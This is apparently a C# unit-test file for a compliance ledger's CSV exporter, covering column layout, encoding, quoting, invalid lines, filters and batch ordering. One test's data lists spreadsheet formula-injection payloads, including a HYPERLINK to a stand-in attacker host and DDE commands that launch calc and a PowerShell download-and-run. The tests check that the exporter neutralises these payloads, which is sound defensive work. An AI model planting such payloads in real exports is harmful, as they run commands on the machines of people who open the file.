using System.Text;
using BedrockCompliance.Engine.Evidence;
using CsvHelper;

namespace BedrockCompliance.Tests.Evidence;

public class EvidenceCsvExportTests
{
    static List<string[]> ReadCsv(string path)
    {
        // The header is read into Headers; rows[0] is the header here so tests can index columns by name.
        using var reader = CsvReader.FromFile(path);
        var rows = new List<string[]>();
        bool first = true;
        while (reader.Read())
        {
            if (first) { rows.Add(reader.Headers.ToArray()); first = false; }
            var row = new string[reader.FieldCount];
            for (int i = 0; i < row.Length; i++) row[i] = reader.GetString(i);
            rows.Add(row);
        }
        if (first) rows.Add(File.ReadLines(path).First().TrimStart('\uFEFF').Split(','));
        return rows;
    }

    [Fact]
    public void Export_writes_the_documented_columns_UTF8_with_BOM_CRLF_and_ISO_timestamps()
    {
        using var t = new TempLedger();
        var written = t.Fill(3);
        string csv = Path.Combine(t.Directory, "out.csv");
        var result = EvidenceCsvExporter.ExportToFile(t.Path, csv);
        Assert.Equal(3, result.RecordsWritten);

        byte[] bytes = File.ReadAllBytes(csv);
        Assert.Equal(new byte[] { 0xEF, 0xBB, 0xBF }, bytes.Take(3));
        string text = Encoding.UTF8.GetString(bytes, 3, bytes.Length - 3);
        Assert.StartsWith(string.Join(",", EvidenceCsvExporter.Columns) + "\r\n", text);
        Assert.Equal(
            "Sequence,Timestamp,Action,Outcome,AccountId,Region,ModelId,Provider,LicenseCategory,LicenseName,OfferId,LegalTermUrl,UseCase,PrincipalArn,OsUser,Machine,CorrelationId,ModuleVersion,Details,Id,LineNumber,PrevHash,Hash" +
            // Appended by issue 17 (decisions and provenance); the columns before them are unchanged.
            ",AccountName,SourceArn,SourceIdentity,PolicyName,PolicySha256,Verdict,ReasonCodes,ApprovedBy,ApprovedOn,ApprovalReference,ApprovalExpiresOn,CloudTrailEventId,EventTime,AcceptedVia",
            string.Join(",", EvidenceCsvExporter.Columns));

        var rows = ReadCsv(csv);
        Assert.Equal(4, rows.Count);
        var header = rows[0];
        for (int i = 0; i < 3; i++)
        {
            var row = rows[i + 1];
            var rec = written[i];
            string Col(string name) => row[Array.IndexOf(header, name)];
            Assert.Equal(rec.Sequence.ToString(), Col("Sequence"));
            Assert.Equal(rec.Timestamp.ToString("yyyy-MM-dd'T'HH:mm:ss.fff'Z'"), Col("Timestamp"));
            Assert.Equal(rec.Id.ToString(), Col("Id"));
            Assert.Equal(rec.Hash, Col("Hash"));
            Assert.Equal(rec.PrevHash, Col("PrevHash"));
            Assert.Equal(rec.ModelId, Col("ModelId"));
            Assert.Equal(rec.LicenseName, Col("LicenseName"));
            Assert.Equal(rec.PrincipalArn, Col("PrincipalArn"));
            Assert.Equal((i + 1).ToString(), Col("LineNumber"));
        }
    }

    public static TheoryData<string> InjectionPayloads() => new()
    {
        "=1+1", "=HYPERLINK(\"http://evil.example\",\"click\")", "+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)",
        "\tTAB=1", "\r=CR", "=cmd|'/C powershell IEX(wget evil)'!A0", "-", "@",
    };

    [Theory]
    [MemberData(nameof(InjectionPayloads))]
    public void Cells_that_start_like_a_formula_are_neutralised_with_a_quote(string payload)
    {
        using var t = new TempLedger();
        var d = TempLedger.Draft(1);
        d.Details = payload;
        d.UseCase = "x" + payload;        // not at the start: left as it is
        d.Provider = payload.TrimStart(); // what follows a leading tab/CR, at the start
        t.Ledger.Append(d);
        var stored = EvidenceReader.Read(t.Path).Single().Record!;
        string csv = Path.Combine(t.Directory, "inj.csv");
        EvidenceCsvExporter.ExportToFile(t.Path, csv);
        var rows = ReadCsv(csv);
        var header = rows[0];
        string Col(string name) => rows[1][Array.IndexOf(header, name)];

        foreach (var (column, value) in new[] { ("Details", stored.Details!), ("Provider", stored.Provider!) })
        {
            string cell = Col(column);
            if ("=+-@\t\r".IndexOf(value[0]) >= 0)
                Assert.Equal("'" + value, cell);
            else
                Assert.Equal(value, cell);
            Assert.DoesNotMatch("^[=+\\-@\t\r]", cell);
        }
        Assert.Equal(stored.UseCase, Col("UseCase"));
        // In the raw file every neutralised cell is also quoted.
        string raw = File.ReadAllText(csv);
        Assert.Contains("\"'" + payload.Substring(0, 1), raw);
    }

    [Fact]
    public void Quotes_commas_and_newlines_round_trip()
    {
        using var t = new TempLedger();
        var d = TempLedger.Draft(1);
        d.Details = "said \"yes\", then\nleft; C:\\path";
        t.Ledger.Append(d);
        string csv = Path.Combine(t.Directory, "q.csv");
        EvidenceCsvExporter.ExportToFile(t.Path, csv);
        var rows = ReadCsv(csv);
        Assert.Equal(d.Details, rows[1][Array.IndexOf(rows[0], "Details")]);
    }

    [Fact]
    public void A_bad_line_stops_the_export_naming_the_line_and_leaves_an_existing_file_untouched()
    {
        using var t = new TempLedger();
        t.Fill(3);
        t.AppendRaw("not json\n");
        t.Fill(1);
        string csv = Path.Combine(t.Directory, "bad.csv");
        File.WriteAllText(csv, "previous export");
        var ex = Assert.Throws<EvidenceLineException>(() => EvidenceCsvExporter.ExportToFile(t.Path, csv));
        Assert.Equal(4, ex.Problem.LineNumber);
        Assert.Equal(EvidenceProblemReason.NotJson, ex.Problem.Reason);
        Assert.Contains("Line 4", ex.Message);
        Assert.Equal("previous export", File.ReadAllText(csv));
        Assert.Single(Directory.GetFiles(t.Directory, "*.csv*")); // no temporary file left behind
    }

    [Fact]
    public void IncludeInvalid_puts_bad_lines_in_the_csv_as_InvalidLine_rows()
    {
        using var t = new TempLedger();
        t.Fill(2);
        t.AppendRaw(new byte[] { (byte)'x', 0xFF, (byte)'\n' });
        t.Fill(1);
        t.AppendRaw("{\"v\":1,\"id\":\"torn");
        string csv = Path.Combine(t.Directory, "inv.csv");
        var result = EvidenceCsvExporter.ExportToFile(t.Path, csv, new EvidenceCsvExportOptions { IncludeInvalid = true });
        Assert.Equal(3, result.RecordsWritten);
        Assert.Equal(2, result.InvalidLinesWritten);
        var rows = ReadCsv(csv);
        var h = rows[0];
        var invalid = rows.Skip(1).Where(r => r[Array.IndexOf(h, "Action")] == "InvalidLine").ToList();
        Assert.Equal(2, invalid.Count);
        Assert.Equal("3", invalid[0][Array.IndexOf(h, "LineNumber")]);
        Assert.Equal("InvalidUtf8", invalid[0][Array.IndexOf(h, "Outcome")]);
        Assert.Contains("base64:eP8=", invalid[0][Array.IndexOf(h, "Details")]);
        Assert.Equal("Torn", invalid[1][Array.IndexOf(h, "Outcome")]);
        Assert.Equal("5", invalid[1][Array.IndexOf(h, "LineNumber")]);
    }

    [Fact]
    public void Filters_apply_to_the_export()
    {
        using var t = new TempLedger();
        t.Fill(3);
        t.Ledger.Append(new EvidenceRecord { Action = EvidenceAction.PolicyDenied, Outcome = EvidenceOutcome.Denied, AccountId = "222222222222", ModelId = "deepseek.r1-v1:0" });
        string csv = Path.Combine(t.Directory, "f.csv");
        var r = EvidenceCsvExporter.ExportToFile(t.Path, csv, new EvidenceCsvExportOptions
        {
            Query = new EvidenceQuery { AccountId = v => v == "222222222222" },
        });
        Assert.Equal(1, r.RecordsWritten);
        Assert.Equal("PolicyDenied", ReadCsv(csv)[1][2]);

        var none = EvidenceCsvExporter.ExportToFile(t.Path, csv, new EvidenceCsvExportOptions { Query = new EvidenceQuery { Since = DateTime.UtcNow.AddDays(1) } });
        Assert.Equal(0, none.RecordsWritten);
        Assert.Single(ReadCsv(csv)); // header only
    }

    [Fact]
    public void A_record_the_fast_path_does_not_recognise_is_exported_through_the_full_parser()
    {
        using var t = new TempLedger();
        var d = TempLedger.Draft(1);
        d.Details = "line1\nline2 \"quoted\"";  // escaped JSON string
        t.Ledger.Append(d);
        string csv = Path.Combine(t.Directory, "s.csv");
        EvidenceCsvExporter.ExportToFile(t.Path, csv);
        Assert.Equal(d.Details, ReadCsv(csv)[1][18]);
    }

    [Fact]
    public void A_ledger_of_many_batches_exports_every_line_in_file_order()
    {
        // 7,001 lines span four batches of 2,048 rows, parsed in place by several workers at once: the CSV must keep
        // file order, with a full-parser row and an invalid line where they stand and the filter applied in every batch.
        using var t = new TempLedger();
        var drafts = Enumerable.Range(1, 7000).Select(i => TempLedger.Draft(i)).ToList();
        drafts[4999].Details = "escaped \"quote\"";
        t.Ledger.AppendRange(drafts);
        var lines = t.Lines();
        lines.Insert(3000, "not json");
        t.WriteLines(lines);

        string csv = Path.Combine(t.Directory, "many.csv");
        var all = EvidenceCsvExporter.ExportToFile(t.Path, csv, new EvidenceCsvExportOptions { IncludeInvalid = true });
        Assert.Equal(7001, all.LinesRead);
        Assert.Equal(7000, all.RecordsWritten);
        Assert.Equal(1, all.InvalidLinesWritten);
        var rows = ReadCsv(csv);
        var h = rows[0];
        int line = Array.IndexOf(h, "LineNumber"), seq = Array.IndexOf(h, "Sequence"), details = Array.IndexOf(h, "Details");
        Assert.Equal(Enumerable.Range(1, 7001).Select(i => i.ToString()), rows.Skip(1).Select(r => r[line]));
        Assert.Equal("InvalidLine", rows[3001][Array.IndexOf(h, "Action")]);
        Assert.Equal(Enumerable.Range(1, 7000).Select(i => i.ToString()), rows.Skip(1).Where((r, i) => i != 3000).Select(r => r[seq]));
        Assert.Equal("escaped \"quote\"", rows[5001][details]);
        Assert.Equal("record 7000", rows[7001][details]);

        var odd = EvidenceCsvExporter.ExportToFile(t.Path, csv, new EvidenceCsvExportOptions
        {
            IncludeInvalid = true,
            Query = new EvidenceQuery { ModelId = m => m != null && int.Parse(m.Split('-')[2].TrimEnd('b')) % 2 == 1 },
        });
        Assert.Equal(3500, odd.RecordsWritten);
        var oddRows = ReadCsv(csv).Skip(1).ToList();
        Assert.Equal(Enumerable.Range(0, 3500).Select(i => (2 * i + 1).ToString()), oddRows.Where(r => r[seq] != "").Select(r => r[seq]));
    }
}
